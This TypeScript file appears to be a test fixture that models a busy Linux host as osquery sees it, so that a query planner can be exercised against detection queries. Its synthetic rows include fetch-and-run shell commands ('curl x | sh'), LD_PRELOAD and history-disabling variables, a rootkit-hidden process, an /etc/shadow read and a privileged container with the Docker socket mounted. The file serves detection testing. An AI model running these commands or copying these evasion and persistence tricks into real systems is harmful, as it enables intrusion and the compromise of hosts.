import type { Constraints, Generate, Row, Value } from './osquery-planner.ts'

export interface ModelHostOptions {
  readonly processes?: number
  /** Open connections, spread over the processes. */
  readonly connections?: number
  /** The number of osquery's own process: that of the newest one. */
  readonly osqueryPid?: number
  /** Rows that replace a table of the model. */
  readonly tables?: Readonly<Record<string, readonly Row[]>>
}

/** How many files a folder of programs has, and any other. */
const FILES = { '/usr/bin/%': 1_500, '/usr/sbin/%': 400, '/usr/lib/%': 150, '/proc/%': 600 }
const FILES_ELSEWHERE = 8
const SOCKETS_PER_LISTENER = 40
const PACKAGES = 600
const PACKAGE_FILES = 2_000

/**
 * A busy Linux host as osquery sees it: every table has rows, and files exist wherever a query looks for them. Its rows
 * make the planner join as it would on a real host; they are no statement about a healthy one.
 */
export function modelHost({
  processes = 300,
  connections = 0,
  osqueryPid = processes + 1,
  tables = {}
}: ModelHostOptions = {}): Generate {
  const pids = Array.from({ length: processes + 1 }, (_, index) => index + 1).filter(
    pid => pid !== HIDDEN_PID
  )
  const model: Record<string, readonly Row[]> = {
    processes: pids.map(processRow),
    process_envs: pids.flatMap(pid => [
      { pid, key: 'PATH', value: '/usr/bin' },
      { pid, key: 'LD_PRELOAD', value: '/usr/lib/x.so' },
      { pid, key: 'HISTFILE', value: '/dev/null' }
    ]),
    process_memory_map: pids.flatMap(pid =>
      Array.from({ length: 60 }, (_, index) => ({
        pid,
        permissions: index % 2 === 0 ? 'r-xp' : 'rw-p',
        path: index === 2 && pid % 50 === 0 ? '/tmp/x.so' : `/usr/lib/x86_64-linux-gnu/lib${index}.so.6`
      }))
    ),
    process_open_files: pids.map(pid => ({ pid, path: pid === 20 ? '/etc/shadow' : '/tmp/x (deleted)' })),
    process_namespaces: pids.map(pid => ({ pid, pid_namespace: '4026531836' })),
    process_open_sockets: Array.from({ length: connections }, (_, index) => ({
      pid: index === 7 ? -1 : (pids[index % processes] ?? 1),
      socket: 100_000 + index,
      fd: index % 50 === 0 ? 0 : 5,
      family: 2,
      protocol: 6,
      local_port: 30_000 + index,
      remote_port: 443,
      remote_address: `198.51.100.${index % 250}`,
      local_address: '10.0.0.9',
      state: 'ESTABLISHED'
    })),
    listening_ports: Array.from({ length: SOCKETS_PER_LISTENER }, (_, index) => ({
      pid: pids[index] ?? 1,
      port: 1_000 + index,
      protocol: 6,
      family: index === 0 ? 17 : 2,
      address: '0.0.0.0'
    })),
    osquery_info: [{ pid: osqueryPid, version: '5.23.1' }],
    users: Array.from({ length: 40 }, (_, uid) => ({
      uid,
      username: `user${uid}`,
      directory: `/home/user${uid}`
    })),
    groups: Array.from({ length: 40 }, (_, gid) => ({
      gid,
      groupname: gid === 4 ? 'adm' : `group${gid}`,
      group_sid: gid === 4 ? 'S-1-5-32-544' : ''
    })),
    user_groups: Array.from({ length: 40 }, (_, uid) => ({ uid, gid: uid })),
    systemd_units: Array.from({ length: 250 }, (_, index) => ({
      id: index === 0 ? 'auditd.service' : `unit${index}.service`,
      fragment_path: `/usr/lib/systemd/system/unit${index}.service`,
      load_state: 'loaded',
      active_state: 'active',
      sub_state: 'running',
      unit_file_state: 'enabled'
    })),
    deb_packages: Array.from({ length: 600 }, (_, index) => ({
      name: index === 0 ? 'openssh-server' : `package${index}`,
      version: '1.0-1',
      status: 'install ok installed'
    })),
    rpm_package_files: packageFiles,
    deb_package_files: packageFiles,
    docker_containers: Array.from({ length: 20 }, (_, id) => ({
      id: `c${id}`,
      image: 'app',
      state: 'running',
      privileged: id === 0 ? 1 : 0,
      pid_namespace: id === 1 ? '4026531836' : '4026532999'
    })),
    docker_container_mounts: ['/', '/var/run/docker.sock'].map(source => ({
      id: 'c0',
      type: 'bind',
      source,
      destination: '/host',
      rw: 1
    })),
    system_controls: [
      { name: 'kernel.tainted', current_value: '4096' },
      { name: 'kernel.core_pattern', current_value: 'core' }
    ],
    kernel_info: [{ arguments: 'ro audit=0' }],
    certificates: [{ common_name: 'ca', ca: 1, self_signed: 1 }],
    last: [{ username: 'user1', type: 7, type_name: 'user-process' }],
    logged_in_users: [{ user: 'user1', type: 'user' }],
    ...tables
  }
  const byPid = new Map<string, Map<string, Row[]>>()

  /** The rows of the processes that are asked for, found as quickly as osquery finds them. */
  function rowsOfPids(table: string, rows: readonly Row[], { equals }: Constraints): readonly Row[] {
    const pids = equals.get('pid')
    if (pids === undefined) return rows
    let index = byPid.get(table)
    if (index === undefined) {
      index = new Map()
      for (const row of rows) index.set(String(row.pid), [...(index.get(String(row.pid)) ?? []), row])
      byPid.set(table, index)
    }
    return pids.flatMap(pid => index.get(String(pid)) ?? [])
  }

  return (table, constraints) => {
    const rows = model[table]
    if (table === 'processes' && constraints.equals.get('pid')?.some(pid => Number(pid) === HIDDEN_PID))
      return [processRow(HIDDEN_PID)]
    if (rows !== undefined) return rowsOfPids(table, rows, constraints).filter(row => fits(row, constraints))
    if (table === 'file' || table === 'hash' || table === 'extended_attributes') return files(constraints)
    if (table === 'authorized_keys' || table === 'shell_history')
      return (constraints.equals.get('uid') ?? []).map(uid => ({
        uid,
        key: `key${uid}`,
        command: 'curl x | sh'
      }))
    if (table === 'registry') return registryValues(constraints)
    if (table === 'signature')
      return (constraints.equals.get('path') ?? []).map(path => ({ path, signed: 0, hash_resources: 0 }))
    return [{ name: 'row', id: 'row' }].filter(row => fits(row, constraints))
  }
}

/** The pid that answers by number and is in no list, as if a rootkit hid it. */
const HIDDEN_PID = 12

const PACKAGE_FOLDERS = ['/usr/bin/program', '/usr/bin/f', '/etc/cron.d/f', '/usr/share/doc/f']

const packageFiles: readonly Row[] = Array.from({ length: PACKAGE_FILES }, (_, index) => ({
  package: `package${index % PACKAGES}`,
  path: `${PACKAGE_FOLDERS[index % PACKAGE_FOLDERS.length]}${Math.floor(index / PACKAGE_FOLDERS.length)}`,
  mode: '0755',
  sha256: 'e'.repeat(64)
}))

/** The processes that the queries look for, by pid. */
const ODD_PROCESSES: Readonly<Record<number, Row>> = {
  2: { parent: 1, path: '/usr/sbin/sshd', name: 'sshd' },
  3: { parent: 2, path: '/usr/bin/bash', name: 'bash', cgroup_path: '/user.slice/user-1000.slice' },
  4: { path: '/tmp/x', name: 'x' },
  5: { cmdline: '[kworker/0:1]' },
  6: { parent: 4_000_000 },
  8: { path: '/usr/bin/dpkg', name: 'dpkg' },
  9: { cmdline: 'sh -c curl http://x | sh' },
  15: { path: '/usr/sbin/nginx', name: 'nginx' },
  16: { parent: 15, path: '/usr/bin/dash', name: 'dash' },
  11: { path: '/memfd:x', name: 'memfd:x', on_disk: 0 }
}

function processRow(pid: number): Row {
  const path =
    pid % 10 === 0 ? '/usr/bin/python3.11' : pid % 7 === 0 ? '/usr/bin/bash' : `/usr/bin/program${pid}`
  return {
    pid,
    parent: pid === 1 ? 0 : Math.min(Math.ceil(pid / 4), HIDDEN_PID - 1),
    path: pid === 1 ? '/usr/lib/systemd/systemd' : path,
    name: pid % 10 === 0 ? 'python3' : pid % 7 === 0 ? 'bash' : `program${pid}`,
    cmdline: `${path} --serve`,
    uid: pid % 3,
    state: 'S',
    on_disk: pid % 50 === 0 ? 0 : 1,
    cgroup_path: '/system.slice/app.service',
    cwd: pid === 14 ? '/dev/shm' : '/',
    root: '/',
    ...ODD_PROCESSES[pid]
  }
}

/** One value under each key that is asked for. */
function registryValues({ equals, like }: Constraints): Row[] {
  const keys = [...(equals.get('key') ?? []), ...(like.get('key') ?? [])]
  return keys.map(key => {
    const name = String(key).replaceAll('%', 'S-1-5-21-1')
    return { key: name, path: `${name}\\x`, name: 'x', data: 'x.exe', type: 'REG_SZ' }
  })
}

/** Compares as SQLite does for these tables: numbers and their texts are equal. */
function fits(row: Row, { equals }: Constraints): boolean {
  return [...equals].every(([column, values]) =>
    values.some((value: Value) => String(row[column] ?? '') === String(value))
  )
}

function files({ equals, like }: Constraints): Row[] {
  const found = (equals.get('path') ?? []).map(path => String(path))
  for (const pattern of like.get('path') ?? []) {
    const count = FILES[pattern as keyof typeof FILES] ?? FILES_ELSEWHERE
    for (let index = 0; index < count; index++)
      found.push(pattern.replaceAll('%', pattern === '/proc/%' ? `${index + 1}` : `f${index}`))
  }
  return found.map(path => ({
    path,
    type: 'regular',
    mode: path.endsWith('f0') ? '4755' : '0755',
    uid: 0,
    gid: 0,
    symlink: 0,
    // As osquery: the number of a device file, and 0 for any other.
    device: 0,
    ctime: path.endsWith('f0') ? Math.floor(Date.now() / 1_000) : 1_600_000_000,
    sha256: 'x',
    key: 'security.capability',
    value: 'cap_net_raw=ep'
  }))
}
